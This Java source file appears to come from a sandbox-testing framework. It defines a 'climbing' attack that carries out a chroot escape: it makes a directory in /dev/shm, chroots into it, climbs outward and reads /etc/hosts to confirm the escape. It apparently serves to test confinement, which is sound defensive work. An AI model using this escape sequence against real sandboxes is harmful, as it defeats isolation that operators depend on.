package dev.jug.engine.attack;

import static dev.jug.runtime.plan.Arg.mode;

import dev.jug.linux.Call;
import java.util.List;

/** The attack by chroot, against a root that was changed by chroot. */
public final class Climbing {
  public static final Attack ATTACK =
      new Attack(
          "climbing",
          "the same where it works",
          "",
          "",
          List.of(),
          (moves, _) -> {
            moves.call(Call.MKDIRAT, Moves.HERE, moves.text("/dev/shm/outer"), mode(0700));
            moves.call(Call.CHDIR, moves.text("/dev/shm/outer"));
            moves.call(Call.CHROOT, moves.text("."));
            Escapes.climb(moves, "/inner");
            moves.open("/etc/hosts", Moves.READ);
          });

  private Climbing() {}
}
